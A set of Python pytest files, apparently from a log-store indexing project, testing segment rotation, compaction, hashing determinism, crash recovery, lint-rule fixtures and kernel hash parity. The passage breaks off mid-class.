from repro.data import make_dataset
from repro.logstore import CoprStore, ScanStore, ShardedCoprStore, STORE_CLASSES
from repro.logstore.tokenizer import tokenize_line

KW = dict(lines_per_batch=64, max_batches=512)


def _ingest(store, corpus, n=None):
    lines = corpus.lines[:n] if n else corpus.lines
    srcs = corpus.sources[:n] if n else corpus.sources
    for line, src in zip(lines, srcs):
        store.ingest(line, src)
    return store


@pytest.fixture(scope="module")
def corpus():
    return make_dataset("small", 3000, seed=11)


@pytest.fixture(scope="module")
def stores(corpus):
    out = {
        "scan": ScanStore(**KW),
        "copr": CoprStore(**KW),
        "sharded": ShardedCoprStore(n_shards=3, lines_per_segment=250, **KW),
    }
    for st in out.values():
        _ingest(st, corpus)
        st.finish()
    return out


def _probe_terms(corpus, n=8, seed=5):
    rng = np.random.default_rng(seed)
    terms = []
    for i in rng.integers(0, len(corpus.lines), n * 3):
        toks = [
            t
            for t in tokenize_line(corpus.lines[int(i)], ngrams=False)
            if len(t) >= 5 and t.isalnum()
        ]
        if toks:
            terms.append(toks[0])
    return list(dict.fromkeys(terms))[:n]


class TestRegistration:
    def test_registered_in_store_classes(self):
        assert STORE_CLASSES["sharded"] is ShardedCoprStore


class TestRotation:
    def test_rotates_exactly_at_line_threshold(self, corpus):
        st = ShardedCoprStore(n_shards=1, lines_per_segment=100, **KW)
        _ingest(st, corpus, n=1000)
        st.finish()
        sealed = st.sealed_segments[0]
        assert len(sealed) == 10
        assert all(s.n_lines == 100 for s in sealed)
        assert all(s.sealed for s in sealed)
        assert not st.active  # finish sealed everything

    def test_rotates_on_byte_threshold(self, corpus):
        st = ShardedCoprStore(
            n_shards=1, lines_per_segment=10**9, bytes_per_segment=4096, **KW
        )
        _ingest(st, corpus, n=500)
        st.finish()
        assert st.n_sealed_segments >= 2
        for s in st.sealed_segments[0][:-1]:
            assert s.n_bytes >= 4096

    def test_mid_ingest_queryability(self, corpus):
        """Sealed + active segments answer FULL queries before finish() —
        including lines still sitting in unsealed writer batches."""
        st = ShardedCoprStore(n_shards=2, lines_per_segment=200, **KW)
        _ingest(st, corpus, n=900)
        assert st.n_sealed_segments >= 1 and st.active  # both kinds live
        assert not st.finished
        for term in ["rror", _probe_terms(corpus, 1)[0]]:
            truth = sorted(
                ln for ln in corpus.lines[:900] if term.lower() in ln.lower()
            )
            assert sorted(st.query_contains(term)) == truth, term

    def test_mid_ingest_copr_temp_segments_visible(self, corpus):
        """Pre-finish CoprStore candidates must span §4.3 temp segments."""
        from repro.core import SketchConfig

        cfg = SketchConfig(max_postings=512, memory_limit_bytes=64 * 1024)
        st = CoprStore(sketch_config=cfg, **KW)
        _ingest(st, corpus, n=2000)
        assert st.sketch.temp_segments, "memory limit must have flushed"
        pre = {
            t: st.candidate_batches(t, contains=True) for t in ["onnection", "rror"]
        }
        pre_planned = st.plan_candidates([(t, True) for t in pre])
        st.finish()
        for (t, got), planned in zip(pre.items(), pre_planned):
            assert got == st.candidate_batches(t, contains=True), t
            assert planned == got, t


class TestParity:
    """Acceptance: byte-identical query results to CoprStore, same lines."""

    def test_contains_queries(self, stores):
        for term in ["onnection", "rror", "10.", "qzjxkwvp"]:
            want = sorted(stores["copr"].query_contains(term))
            got = sorted(stores["sharded"].query_contains(term))
            truth = sorted(stores["scan"].query_contains(term))
            assert got == want == truth, term

    def test_term_queries(self, stores, corpus):
        for term in _probe_terms(corpus):
            want = sorted(stores["copr"].query_term(term))
            got = sorted(stores["sharded"].query_term(term))
            assert got == want, term

    def test_cross_shard_candidates_cover_all_shards(self, stores, corpus):
        """A token present in many sources must surface batches from >1 shard."""
        sh = stores["sharded"]
        cands = sh.candidate_batches("error", contains=True)
        shards = set()
        for seg in sh.segments():
            if seg.min_batch is None:
                continue
            if any(seg.min_batch <= b <= seg.max_batch for b in cands):
                shards.add(seg.shard)
        assert len(shards) > 1

    def test_plan_candidates_matches_per_query(self, stores):
        sh = stores["sharded"]
        queries = [("onnection", True), ("error", False), ("qzjxkwvp", True), ("", True)]
        batched = sh.plan_candidates(queries)
        for (term, contains), got in zip(queries, batched):
            assert got == sh.candidate_batches(term, contains=contains)

    def test_disk_usage_accounting(self, stores):
        du = stores["sharded"].disk_usage()
        assert du.raw_bytes > du.data_bytes > 0
        assert du.index_bytes > 0


class TestCompaction:
    def _build(self, corpus):
        st = ShardedCoprStore(n_shards=2, lines_per_segment=150, **KW)
        _ingest(st, corpus, n=2000)
        st.finish()
        return st

    def test_compact_reduces_segments_preserves_results(self, corpus, stores):
        st = self._build(corpus)
        terms = ["onnection", "rror", *_probe_terms(corpus, 4)]
        before = {t: sorted(st.query_contains(t)) for t in terms}
        n_before = st.n_segments
        assert st.compact() >= 1
        assert st.n_segments < n_before
        assert st.n_segments == st.n_sealed_segments == 2  # one per shard
        for t in terms:
            assert sorted(st.query_contains(t)) == before[t], t

    def test_compact_fanin_bounds_merge_width(self, corpus):
        st = self._build(corpus)
        per_shard_before = [len(st.sealed_segments[s]) for s in range(st.n_shards)]
        st.compact(fanin=2)
        for s, before in enumerate(per_shard_before):
            assert len(st.sealed_segments[s]) == (before + 1) // 2
        merged = [seg for seg in st.segments() if seg.merged_from > 1]
        assert merged and all(seg.merged_from <= 2 for seg in merged)

    def test_compact_is_idempotent_when_single_segment(self, corpus):
        st = self._build(corpus)
        st.compact()
        assert st.compact() == 0

    def test_compacted_line_accounting(self, corpus):
        st = self._build(corpus)
        total_before = sum(s.n_lines for s in st.segments())
        st.compact()
        assert sum(s.n_lines for s in st.segments()) == total_before == 2000
