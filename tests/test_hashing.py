"""Hash primitives: determinism, commutativity, device-exactness contracts."""

import numpy as np

try:
    from hypothesis import given, settings, strategies as st
except ImportError:  # fallback random-case generator (see _hypothesis_fallback)
    from _hypothesis_fallback import given, settings, strategies as st

from repro.core.hashing import (
    XS_TRIPLES,
    fingerprint32,
    fingerprint_tokens,
    lcg64,
    level_hash32,
    postings_hash,
    postings_hash32,
    postings_hash_single,
    postings_hash_update,
    signature32,
    xorshift32,
)


def test_lcg64_matches_definition():
    # Definition 3.2: x1 = a*x0 + c mod 2^64
    a, c = 0xD1342543DE82EF95, 1
    for x in [0, 1, 12345, 2**63]:
        assert int(lcg64(x)) == (a * x + c) % 2**64


@given(st.lists(st.integers(0, 2**16 - 1), min_size=1, max_size=50, unique=True))
@settings(max_examples=50, deadline=None)
def test_postings_hash_commutative(postings):
    """Definition 3.1: the fold must be order-independent."""
    import random

    h1 = postings_hash(postings)
    shuffled = postings[:]
    random.Random(42).shuffle(shuffled)
    h2 = postings_hash(shuffled)
    assert h1 == h2


@given(st.lists(st.integers(0, 2**16 - 1), min_size=2, max_size=50, unique=True))
@settings(max_examples=50, deadline=None)
def test_postings_hash_incremental(postings):
    """Iterative folding equals whole-set hashing."""
    h = postings_hash_single(postings[0])
    for p in postings[1:]:
        h = postings_hash_update(h, p)
    assert h == postings_hash(postings)


def test_postings_hash_update_is_involution():
    h0 = postings_hash_single(7)
    h1 = postings_hash_update(h0, 9)
    assert postings_hash_update(h1, 9) == h0  # XOR removal


def test_fingerprint_deterministic_and_string_bytes_equal():
    assert fingerprint32("warn") == fingerprint32(b"warn")
    assert fingerprint32("warn") != fingerprint32("warm")
    fps = fingerprint_tokens(["a", "b", "a"])
    assert fps[0] == fps[2] and fps[0] != fps[1]


def test_xorshift32_bijective_per_variant():
    """Any xor/shift composition is invertible — collisions impossible at 32b."""
    x = np.arange(0, 2**18, dtype=np.uint32)
    for variant in range(len(XS_TRIPLES) // 2):
        y = xorshift32(x, seed=123, variant=variant)
        assert len(np.unique(y)) == len(x)


def test_level_hash_variants_decorrelated():
    """Pairs colliding at one level must usually separate at the next —
    the property the per-level triples exist for (linearity note in
    hashing.py)."""
    rng = np.random.default_rng(3)
    fps = rng.integers(0, 2**32, 20000, dtype=np.uint32)
    mask = np.uint32(1023)
    h0 = level_hash32(fps, 0) & mask
    h1 = level_hash32(fps, 1) & mask
    # among level-0 colliding pairs, < 5% may still collide at level 1
    order = np.argsort(h0, kind="stable")
    h0s, h1s = h0[order], h1[order]
    same0 = h0s[1:] == h0s[:-1]
    both = same0 & (h1s[1:] == h1s[:-1])
    assert both.sum() < max(5, 0.05 * same0.sum())


def test_signature_width():
    fps = np.asarray([1, 2, 3, 2**32 - 1], np.uint32)
    for bits in (1, 8, 16, 31):
        s = signature32(fps, bits)
        assert (s < (1 << bits)).all()
    assert (signature32(fps, 32) == signature32(fps, 40)).all()


def test_postings_hash32_matches_device_contract():
    h = np.asarray([1, 2, 3], np.uint32)
    p = np.asarray([10, 20, 30], np.uint32)
    out = postings_hash32(h, p)
    # commutative + involutive like the 64-bit version
    assert (postings_hash32(out, p) == h).all()
