"""Log-store integration: all stores agree with the brute-force scan."""

import numpy as np
import pytest

from repro.data import make_dataset
from repro.logstore import STORE_CLASSES, create_store, tokenize_line
from repro.logstore.tokenizer import contains_query_tokens


@pytest.fixture(scope="module")
def corpus():
    return make_dataset("small", 4000, seed=11)


@pytest.fixture(scope="module")
def stores(corpus):
    out = {}
    for name in STORE_CLASSES:
        kw = dict(lines_per_batch=64, max_batches=512)
        if name == "csc":
            kw["m_bits"] = 1 << 18
        st = create_store(name, **kw)
        for line, src in zip(corpus.lines, corpus.sources):
            st.ingest(line, src)
        st.finish()
        out[name] = st
    return out


class TestTokenizer:
    def test_rules_1_to_5(self):
        toks = tokenize_line("ERROR: user name@company from 192.0.0 port 22", ngrams=False)
        for t in ["error", "user", "name", "company", "22", "name@company", "192.0.0"]:
            assert t in toks, t

    def test_ngram_rules(self):
        toks = set(tokenize_line("${{jndi warning", ngrams=True))
        for t in ["$", "{", "${", "{{", "${{", "war", "arn", "rni", "nin", "ing"]:
            assert t in toks, t

    def test_contains_tokens_never_false_negative(self, corpus):
        """Every line containing a term must survive the gram AND-filter."""
        line = corpus.lines[17].lower()
        sub = line[2:14]
        grams = contains_query_tokens(sub)
        toks = set(tokenize_line(line))
        assert all(g in toks for g in grams)


class TestPlanSignature:
    def test_all_stores_share_the_same_plan_signature(self):
        """Every registered store's ``plan`` is ``(atoms: list[AtomKey]) ->
        list[CandidateSet]`` — the planner contract from docs/query_api.md.
        Assert-style (no mypy): compare the live ``inspect`` signatures."""
        import inspect

        from repro.logstore import LogStore

        base = inspect.signature(LogStore.plan)
        assert "list[AtomKey]" in str(base) and "list[CandidateSet]" in str(base)
        for name, cls in STORE_CLASSES.items():
            assert inspect.signature(cls.plan) == base, (
                f"{name}.plan drifted from the LogStore.plan signature"
            )


class TestStoreAgreement:
    @pytest.mark.parametrize("name", ["copr", "csc", "inverted"])
    def test_term_queries_match_scan(self, stores, corpus, name):
        rng = np.random.default_rng(5)
        scan = stores["scan"]
        # probe with actual indexed tokens (term queries address single
        # tokens; multi-token substrings are the contains() scenario)
        probes = []
        for i in rng.integers(0, 4000, 12):
            toks = [t for t in tokenize_line(corpus.lines[int(i)], ngrams=False) if len(t) >= 5 and t.isalnum()]
            if toks:
                probes.append(toks[0])
        for term in probes[:6]:
            want = sorted(scan.query_term(term))
            got = sorted(stores[name].query_term(term))
            assert got == want, (name, term)

    @pytest.mark.parametrize("name", ["copr", "csc"])
    def test_contains_queries_match_scan(self, stores, corpus, name):
        scan = stores["scan"]
        for term in ["onnection", "rror", "10."]:
            want = sorted(scan.query_contains(term))
            got = sorted(stores[name].query_contains(term))
            assert got == want, (name, term)

    def test_absent_needle_fast_path(self, stores):
        # random 16-letter ID: no store may return lines
        for name, st in stores.items():
            assert st.query_term("qzjxkwvpqzjxkwvp") == []

    def test_copr_false_positive_batches_low(self, stores):
        st = stores["copr"]
        rng = np.random.default_rng(1)
        letters = np.array(list("abcdefghijklmnopqrstuvwxyz"))
        fp_batches = 0
        n = 40
        for _ in range(n):
            needle = "".join(rng.choice(letters, 16))
            fp_batches += len(st.candidate_batches(needle, contains=False))
        assert fp_batches <= n  # ≤1 false batch per probe on average

    def test_disk_usage_accounting(self, stores):
        for name, st in stores.items():
            du = st.disk_usage()
            assert du.raw_bytes > du.data_bytes > 0
            if name == "scan":
                assert du.index_bytes == 0


class TestIngestPipeline:
    def test_crash_recovery_reproduces_results(self, tmp_path, corpus):
        from repro.data import IngestPipeline

        lines = corpus.lines[:2000]
        srcs = corpus.sources[:2000]

        # run A: clean ingest
        a = IngestPipeline(tmp_path / "a", n_shards=2, lines_per_segment=512)
        for l, s in zip(lines, srcs):
            a.ingest(l, s)
        a.seal_all()

        # run B: crash mid-way, replay journal, continue
        b = IngestPipeline(tmp_path / "b", n_shards=2, lines_per_segment=512)
        for l, s in zip(lines[:1000], srcs[:1000]):
            b.ingest(l, s)
        b.journal.sync()
        del b
        b2 = IngestPipeline(tmp_path / "b", n_shards=2, lines_per_segment=512)
        replayed = b2.recover()
        assert replayed > 0
        for l, s in zip(lines[1000:], srcs[1000:]):
            b2.ingest(l, s)
        b2.seal_all()

        needle = lines[700].split()[-1]
        assert sorted(b2.query_contains(needle)) == sorted(a.query_contains(needle))

    def test_event_log_trims_torn_tail_before_new_appends(self, tmp_path):
        """Records appended after a torn-tail recovery must survive the next
        replay (same invariant as WriteAheadLog.trim_torn_tail)."""
        from repro.data import EventLog

        log = EventLog(tmp_path / "j.log")
        for i in range(5):
            log.append({"i": i})
        log.sync()
        log.close()
        with open(tmp_path / "j.log", "r+b") as f:
            f.truncate((tmp_path / "j.log").stat().st_size - 3)

        log2 = EventLog(tmp_path / "j.log")
        assert len(log2) == 4
        log2.append({"i": "post-crash-a"})
        log2.append({"i": "post-crash-b"})
        log2.sync()
        log2.close()
        log3 = EventLog(tmp_path / "j.log")
        assert [r for _, r in log3.replay()] == [
            *({"i": i} for i in range(4)),
            {"i": "post-crash-a"},
            {"i": "post-crash-b"},
        ]
        log3.close()

    def test_rendezvous_stability(self):
        from repro.distributed import assign_segments

        a3 = assign_segments(range(200), ["w0", "w1", "w2"])
        a2 = assign_segments(range(200), ["w0", "w1"])
        for w in ("w0", "w1"):
            assert set(a3[w]).issubset(set(a2[w]))  # survivors keep their work

    def test_straggler_speculation(self):
        from repro.distributed import QueryScheduler

        s = QueryScheduler(heartbeat_timeout=100, straggler_factor=2.0)
        for w in ("w0", "w1"):
            s.heartbeat(w, now=0.0)
        # w0 completes fast; w1 hangs on segment 9
        s.start("w0", 1, now=0.0)
        s.complete("w0", 1, "r", now=1.0)
        s.start("w1", 9, now=0.0)
        plan = s.speculate(now=10.0)
        assert plan == {"w0": [9]}
        # first result wins; duplicate is discarded
        assert s.complete("w0", 9, "r0", now=11.0) is True
        assert s.complete("w1", 9, "r1", now=12.0) is False
