"""The invariant-enforcement layer enforces something (satellite c).

Three surfaces:

* **R1–R5 fire on bad fixtures** — each rule has a minimal bad snippet it
  must flag and a good twin it must pass, so a rule silently going blind
  breaks this suite, not production;
* **suppressions** — a reasoned ``repro: allow[...]`` silences exactly its
  rule/line, a reasonless one is itself a finding;
* **the dynamic half** — lockcheck catches a scripted lock-order inversion,
  and ``SlabUnion`` raises on cross-thread access.
"""

import textwrap
import threading

import pytest

from tools.analysis.engine import run_analysis
from tools.analysis import lockcheck


def analyze(tmp_path, source, *, name="logstore/mod.py", only=None):
    """Run the analyzer over one synthetic module."""
    path = tmp_path / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(source), encoding="utf-8")
    return run_analysis([path], only=only)


def rules_of(findings):
    return sorted({f.rule for f in findings})


# -- R1: lock discipline ------------------------------------------------------------


R1_BAD = """
    import threading

    class LogStore:
        def __init__(self):
            self._write_lock = threading.RLock()
            self.batches = {}

        def ingest(self, line):
            self.batches[1] = line  # mutation outside the lock

        def rotate(self):
            self.counter = 0  # plain assignment outside the lock
"""

R1_GOOD = """
    import threading

    class LogStore:
        def __init__(self):
            self._write_lock = threading.RLock()
            self.batches = {}

        def ingest(self, line):
            with self._write_lock:
                self.batches[1] = line
                self._seal()

        def _seal(self):
            self.sealed = True  # helper reached only from the locked ingest
"""


class TestLockDiscipline:
    def test_fires_on_unlocked_mutation(self, tmp_path):
        findings = analyze(tmp_path, R1_BAD, only=["R1"])
        assert len(findings) == 2
        assert all(f.rule == "R1" for f in findings)
        assert "ingest" in findings[0].message

    def test_passes_locked_and_helper_under_lock(self, tmp_path):
        assert analyze(tmp_path, R1_GOOD, only=["R1"]) == []

    def test_helper_reachable_from_unlocked_caller_fires(self, tmp_path):
        src = textwrap.dedent(R1_GOOD) + textwrap.dedent("""
            class Sub(LogStore):
                def compact(self):
                    self._seal()  # unlocked second caller taints the helper
        """)
        findings = analyze(tmp_path, src, only=["R1"])
        assert [f.rule for f in findings] == ["R1"]
        assert "_seal" in findings[0].message

    def test_mutator_method_calls_count_as_mutations(self, tmp_path):
        src = """
            class LogStore:
                def ingest(self, line):
                    self.wal.append(line)
        """
        findings = analyze(tmp_path, src, only=["R1"])
        assert [f.rule for f in findings] == ["R1"]
        assert "self.wal.append" in findings[0].message

    def test_non_store_classes_are_out_of_scope(self, tmp_path):
        src = """
            class Segment:
                def add(self, line):
                    self.lines = line  # guarded by the owning store's lock
        """
        assert analyze(tmp_path, src, only=["R1"]) == []


# -- R2: payload-cache / SlabUnion escape -------------------------------------------


R2_BAD_RETURN = """
    def execute_search(view, queries):
        shared_payloads = {}
        return shared_payloads  # cache escapes the call
"""

R2_BAD_SELF = """
    class Store:
        def execute_search(self, queries):
            union = SlabUnion([1, 2])
            self._last_union = union  # outlives the call on self
"""

R2_BAD_CLOSURE = """
    def execute_search(view):
        pred = CompiledPredicate(None, {})

        def later():
            return pred.payloads  # closure captures the per-call cache

        return later
"""

R2_BAD_TEMPLATE = """
    def execute_search(view, queries):
        shared_templates = {}
        return shared_templates  # template-dictionary cache escapes (ISSUE 9)
"""

R2_GOOD = """
    def execute_search(view, queries):
        union = SlabUnion([1, 2])
        shared_payloads = {}
        shared_templates = {}
        results = [len(shared_payloads), len(shared_templates)]
        del union
        return results  # results escape; the caches do not
"""


class TestPayloadEscape:
    @pytest.mark.parametrize(
        "src", [R2_BAD_RETURN, R2_BAD_SELF, R2_BAD_CLOSURE, R2_BAD_TEMPLATE],
        ids=["return", "self-store", "closure", "template-cache"],
    )
    def test_fires_on_escape(self, tmp_path, src):
        findings = analyze(tmp_path, src, only=["R2"])
        assert findings and all(f.rule == "R2" for f in findings)

    def test_passes_contained_lifetime(self, tmp_path):
        assert analyze(tmp_path, R2_GOOD, only=["R2"]) == []

    def test_current_execute_search_is_clean(self):
        findings = run_analysis(["src/repro/logstore/snapshot.py"], only=["R2"])
        assert findings == []


# -- R3: kernel/ref parity ----------------------------------------------------------


class TestKernelParity:
    def test_current_tree_is_clean(self):
        assert run_analysis(["src/repro/kernels"], only=["R3"]) == []

    def test_fires_on_missing_ref(self, tmp_path):
        (tmp_path / "kernels").mkdir()
        (tmp_path / "kernels" / "ops.py").write_text(
            "def shiny_new_op(x):\n    return x\n"
        )
        (tmp_path / "kernels" / "ref.py").write_text("")
        findings = run_analysis([tmp_path / "kernels"], only=["R3"])
        assert any("shiny_new_op" in f.message and "oracle" in f.message for f in findings)

    def test_fires_on_orphan_ref(self, tmp_path):
        (tmp_path / "kernels").mkdir()
        (tmp_path / "kernels" / "ops.py").write_text("")
        (tmp_path / "kernels" / "ref.py").write_text(
            "def stale_thing_ref(x):\n    return x\n"
        )
        findings = run_analysis([tmp_path / "kernels"], only=["R3"])
        assert any("stale_thing_ref" in f.message for f in findings)


# -- R4: lowercase traps ------------------------------------------------------------


class TestLowercaseTrap:
    def test_fires_inside_logstore(self, tmp_path):
        findings = analyze(tmp_path, "x = 'K'.lower()\n", only=["R4"])
        assert rules_of(findings) == ["R4"]

    def test_casefold_counts(self, tmp_path):
        findings = analyze(tmp_path, "x = 'I\\u0307'.casefold()\n", only=["R4"])
        assert rules_of(findings) == ["R4"]

    def test_silent_outside_logstore(self, tmp_path):
        findings = analyze(
            tmp_path, "x = 'K'.lower()\n", name="core/mod.py", only=["R4"]
        )
        assert findings == []

    def test_reasoned_suppression_silences(self, tmp_path):
        findings = analyze(
            tmp_path,
            "x = 'K'.lower()  # repro: allow[R4] test fixture, both sides fold\n",
            only=["R4"],
        )
        assert findings == []

    def test_reasonless_suppression_is_a_finding(self, tmp_path):
        findings = analyze(
            tmp_path, "x = 'K'.lower()  # repro: allow[R4]\n", only=["R4"]
        )
        # the bare suppression is flagged AND the original finding survives
        assert rules_of(findings) == ["R0", "R4"]
        assert any("no reason" in f.message for f in findings)


# -- R5: warn-once shims ------------------------------------------------------------


R5_BAD = """
    import warnings

    def old_api():
        warnings.warn("use new_api", DeprecationWarning, stacklevel=2)
"""

R5_GOOD = """
    import warnings

    _WARNED = set()

    def old_api():
        if "old_api" not in _WARNED:
            _WARNED.add("old_api")
            warnings.warn("use new_api", DeprecationWarning, stacklevel=2)
"""


class TestWarnOnce:
    def test_fires_on_unguarded_deprecation(self, tmp_path):
        findings = analyze(tmp_path, R5_BAD, only=["R5"])
        assert rules_of(findings) == ["R5"]
        assert "old_api" in findings[0].message

    def test_passes_warned_guard(self, tmp_path):
        assert analyze(tmp_path, R5_GOOD, only=["R5"]) == []

    def test_non_deprecation_warns_ignored(self, tmp_path):
        src = """
            import warnings

            def noisy():
                warnings.warn("heads up")
        """
        assert analyze(tmp_path, src, only=["R5"]) == []


# -- R6 + whole-tree gate -----------------------------------------------------------


class TestRepoIsClean:
    def test_src_tree_has_zero_findings(self):
        """The CI gate, as a test: the shipped tree stays at zero findings."""
        assert run_analysis(["src"]) == []

    def test_r6_fires_on_untyped_def(self, tmp_path):
        findings = analyze(
            tmp_path,
            "def f(x):\n    return x\n",
            name="repro/core/mod.py",
            only=["R6"],
        )
        assert rules_of(findings) == ["R6"]
        assert "x, return" in findings[0].message


# -- dynamic half: lockcheck --------------------------------------------------------


class TestLockcheck:
    def setup_method(self):
        lockcheck.REGISTRY.reset()

    def test_detects_lock_order_inversion(self):
        """Thread 1 takes A→B, thread 2 takes B→A: the second order must
        raise even though the schedule never actually deadlocks."""
        a = lockcheck.CheckedRLock("A")
        b = lockcheck.CheckedRLock("B")
        with a:
            with b:
                pass
        caught = []

        def inverted():
            try:
                with b:
                    with a:
                        pass
            except lockcheck.LockOrderInversion as exc:
                caught.append(str(exc))

        t = threading.Thread(target=inverted)
        t.start()
        t.join()
        assert caught, "B→A after A→B must be flagged as an inversion"
        assert "'A'" in caught[0] and "'B'" in caught[0]

    def test_consistent_order_is_quiet(self):
        a = lockcheck.CheckedRLock("A")
        b = lockcheck.CheckedRLock("B")
        for _ in range(3):
            with a, b:
                pass

    def test_reentrant_acquire_is_not_an_inversion(self):
        a = lockcheck.CheckedRLock("A")
        with a:
            with a:
                assert a.held_by_me()
        assert not a.held_by_me()

    def test_assert_holding(self):
        a = lockcheck.CheckedRLock("A")
        with pytest.raises(lockcheck.HeldLockAssertion):
            lockcheck.assert_holding(a)
        with a:
            lockcheck.assert_holding(a)

    def test_inversion_releases_the_inner_lock(self):
        a = lockcheck.CheckedRLock("A")
        b = lockcheck.CheckedRLock("B")
        with a, b:
            pass
        with pytest.raises(lockcheck.LockOrderInversion):
            with b:
                with a:
                    pass
        # the failed acquire must not leave A held
        assert a._inner.acquire(blocking=False)
        a._inner.release()

    def test_store_uses_checked_locks_under_env(self, monkeypatch, tmp_path):
        monkeypatch.setenv("REPRO_LOCKCHECK", "1")
        from repro.logstore.store import CoprStore

        store = CoprStore()
        assert isinstance(store._write_lock, lockcheck.CheckedRLock)
        for i in range(600):
            store.ingest(f"line {i} alpha")
        store.finish()
        assert store.search("alpha").lines
        assert store._write_lock.acquisitions > 0


# -- dynamic half: SlabUnion thread ownership ---------------------------------------


class TestSlabUnionOwnership:
    def test_cross_thread_access_raises(self):
        from repro.logstore.linefilter import SlabUnion

        union = SlabUnion([])
        union.bind({})  # owner thread: fine
        failures = []

        def use_from_other_thread():
            try:
                union.bind({})
            except RuntimeError as exc:
                failures.append(str(exc))

        t = threading.Thread(target=use_from_other_thread)
        t.start()
        t.join()
        assert failures and "second thread" in failures[0]

    def test_search_many_still_works_single_threaded(self):
        from repro.core.querylang import Contains, Term
        from repro.logstore.store import CoprStore

        store = CoprStore(lines_per_batch=8)
        for i in range(64):
            store.ingest(f"req {i} status={'ok' if i % 2 else 'err'}")
        store.finish()
        res = store.search_many([Term("req"), Contains("status=err")])
        assert len(res[0].lines) == 64
        assert len(res[1].lines) == 32
