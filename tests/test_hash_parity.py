"""Property test: the three hash implementations agree bit-for-bit.

The probe pipeline has three coordinated implementations of the same math:

* ``repro.core.hashing`` — the host (numpy) primitives the stores build with;
* ``repro.kernels.ref``  — the jnp oracles the kernel tests assert against;
* ``repro.kernels.sketch_probe`` / ``ops`` — the Bass device kernels.

A drift in any one silently corrupts probe results (a sketch built with one
hash and probed with another returns wrong ranks, not errors), so this suite
drives all reachable pairs over random token streams and asserts bit-exact
equality.  The Bass leg only runs where the concourse toolchain is importable
(same gate as ``tests/test_kernels.py``); the host↔ref legs always run.
"""

from __future__ import annotations

import numpy as np
import pytest

try:
    from hypothesis import given, settings, strategies as st
except ImportError:  # fallback random-case generator (see _hypothesis_fallback)
    from _hypothesis_fallback import given, settings, strategies as st

from repro.core.hashing import (
    POSTING_SEED,
    fingerprint32,
    fingerprint_spans,
    fingerprint_tokens,
    postings_hash32,
    signature32,
    xorshift32,
)
from repro.core.mphf import build_mphf

jnp_ref = pytest.importorskip("repro.kernels.ref", reason="jax not installed")


def _token_stream(ints: list[int]) -> list[str]:
    """Deterministic token text from draws — realistic token shapes (short
    alnum runs, hex-ish ids) rather than raw ints."""
    return [f"tok{v:x}" if v % 3 else f"id{v}" for v in ints]


tokens_strategy = st.lists(
    st.integers(min_value=0, max_value=2**32 - 1), min_size=1, max_size=64
)


def _span_slab(ints: list[int]) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """A ragged byte slab + (starts, lengths) spans from draws.  Lengths
    deliberately straddle the vectorized CRC's column loop (empty spans,
    1-byte spans, spans far longer than typical tokens, non-ASCII bytes)."""
    chunks, starts, lengths = [], [], []
    pos = 0
    for v in ints:
        n = v % 131  # 0..130 bytes — crosses any power-of-two column batching
        chunk = bytes((v + j * 0x9E) & 0xFF for j in range(n))
        chunks.append(chunk)
        starts.append(pos)
        lengths.append(n)
        pos += n
    slab = np.frombuffer(b"".join(chunks), dtype=np.uint8) if pos else np.zeros(0, np.uint8)
    return slab, np.asarray(starts, np.int64), np.asarray(lengths, np.int64)


class TestHostVsRefOracle:
    """core/hashing (numpy) ↔ kernels/ref (jnp) — always runnable."""

    @settings(max_examples=40, deadline=None)
    @given(tokens_strategy)
    def test_posting_hash_fold_bit_exact(self, ints):
        fps = fingerprint_tokens(_token_stream(ints))
        h = xorshift32(fps, POSTING_SEED ^ 0x1234, variant=1)
        host = postings_hash32(h, fps)
        oracle_np = jnp_ref.posting_hash_ref(h, fps)
        oracle_jnp = np.asarray(jnp_ref.posting_hash_ref_jnp(h, fps))
        assert np.array_equal(host, oracle_np)
        assert np.array_equal(host, oracle_jnp)

    @settings(max_examples=40, deadline=None)
    @given(tokens_strategy)
    def test_fingerprints_match_scalar_path(self, ints):
        toks = _token_stream(ints)
        batched = fingerprint_tokens(toks)
        scalar = np.array([fingerprint32(t) for t in toks], np.uint32)
        assert np.array_equal(batched, scalar)

    @settings(max_examples=25, deadline=None)
    @given(tokens_strategy)
    def test_sketch_probe_ref_matches_host_reconstruction(self, ints):
        """ref.sketch_probe_ref == the probe spelled out in host primitives:
        mphf minimal index where the stored 32-bit signature (here the full
        fingerprint) matches, ABSENT32 otherwise."""
        fps = np.unique(fingerprint_tokens(_token_stream(ints)))
        m = build_mphf(fps)
        idx = m.eval_batch(fps)
        sigs = np.zeros(m.n_keys, np.uint32)
        sigs[idx] = fps
        # probe all stored keys plus derived near-miss keys
        probes = np.concatenate([fps, fps ^ np.uint32(1), signature32(fps, 32)])
        got = jnp_ref.sketch_probe_ref(probes, m, sigs)
        want = np.full(probes.shape, 0xFFFFFFFF, np.uint32)
        pidx = m.eval_batch(probes)
        ok = pidx >= 0
        hit = sigs[pidx[ok]] == probes[ok]
        want[np.flatnonzero(ok)[hit]] = pidx[ok][hit].astype(np.uint32)
        assert np.array_equal(got, want)
        # every stored key must round-trip to its own minimal index
        assert np.array_equal(got[: len(fps)], idx.astype(np.uint32))

    @settings(max_examples=40, deadline=None)
    @given(tokens_strategy)
    def test_token_fingerprint_spans_bit_exact(self, ints):
        """Vectorized table-CRC fingerprinting ↔ the span-at-a-time zlib
        oracle, and both ↔ the scalar UTF-8 ``fingerprint32`` path."""
        slab, starts, lengths = _span_slab(ints)
        host = fingerprint_spans(slab, starts, lengths)
        assert np.array_equal(host, jnp_ref.token_fingerprint_ref(slab, starts, lengths))
        # cross-check against the per-token scalar path on UTF-8 text spans
        toks = _token_stream(ints)
        blob = "".join(toks).encode("utf-8")
        tl = np.asarray([len(t.encode("utf-8")) for t in toks], np.int64)
        ts = np.concatenate([[0], np.cumsum(tl)[:-1]]).astype(np.int64)
        got = fingerprint_spans(np.frombuffer(blob, np.uint8), ts, tl)
        assert np.array_equal(got, np.array([fingerprint32(t) for t in toks], np.uint32))


class TestBassKernelParity:
    """ref oracles ↔ Bass kernels — runs only where concourse is importable."""

    @pytest.fixture(autouse=True, scope="class")
    def _need_bass(self):
        pytest.importorskip("concourse.bass", reason="Bass toolchain not installed")

    @settings(max_examples=10, deadline=None)
    @given(tokens_strategy)
    def test_posting_hash_kernel_bit_exact(self, ints):
        from repro.kernels import ops

        fps = fingerprint_tokens(_token_stream(ints))
        h = xorshift32(fps, POSTING_SEED ^ 0x1234, variant=1)
        got = np.asarray(ops.posting_hash(h, fps))
        assert np.array_equal(got, jnp_ref.posting_hash_ref(h, fps))

    @settings(max_examples=5, deadline=None)
    @given(tokens_strategy)
